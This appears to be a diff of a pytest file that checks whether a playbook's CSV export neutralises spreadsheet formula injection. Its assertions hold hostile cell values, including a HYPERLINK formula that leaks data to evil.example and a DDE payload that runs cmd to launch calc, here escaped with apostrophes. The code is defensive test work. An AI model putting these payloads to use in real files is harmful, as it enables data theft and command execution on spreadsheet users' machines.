@@ -64,7 +64,9 @@ HOSTILE_LEAD = """
 
 @pytest.fixture
 def hostile(tmp_path: Path) -> Path:
-    return write_content(tmp_path / "content", {"kpis/win-rate.yml": HOSTILE_KPI, "leads/marketing-qualified-lead.yml": HOSTILE_LEAD})
+    return write_content(
+        tmp_path / "content", {"kpis/win-rate.yml": HOSTILE_KPI, "leads/marketing-qualified-lead.yml": HOSTILE_LEAD}
+    )
 
 
 def starts_a_formula(cell: str) -> bool:
@@ -92,10 +94,12 @@ def test_the_values_read_back_with_the_apostrophes_and_numbers_stay_numbers(host
     text = kpis_csv(playbook)
     row = next(csv.DictReader(io.StringIO(text)))
     assert row["definition"] == "Share of deals won;'=1+1"
-    assert row["formula"] == "Won ÷ (won + lost);'=HYPERLINK(\"https://evil.example/?leak\";\"click\")"
+    assert row["formula"] == 'Won ÷ (won + lost);\'=HYPERLINK("https://evil.example/?leak";"click")'
     assert row["source"] == "CRM\t'=3+3, '@SUM(1); \"'-2+3"
     assert row["target_value"] == "-5" and ',-5,"quarter"' in text  # a bare number, not quoted text
-    assert text.startswith('"id","name","abbreviation",') and '"win-rate","Win rate",,"agreed",' in text  # text quoted, empty bare
+    assert (
+        text.startswith('"id","name","abbreviation",') and '"win-rate","Win rate",,"agreed",' in text
+    )  # text quoted, empty bare
     lead = next(csv.DictReader(io.StringIO(leads_csv(playbook))))
     assert lead["entry_criteria"] == "Score of 60 or more.; '=1+1; '+cmd|' /C calc'!A0"
     assert lead["reason_codes"] == "x; '@SUM(2); '-3+3"  # (the loader trims the leading space)
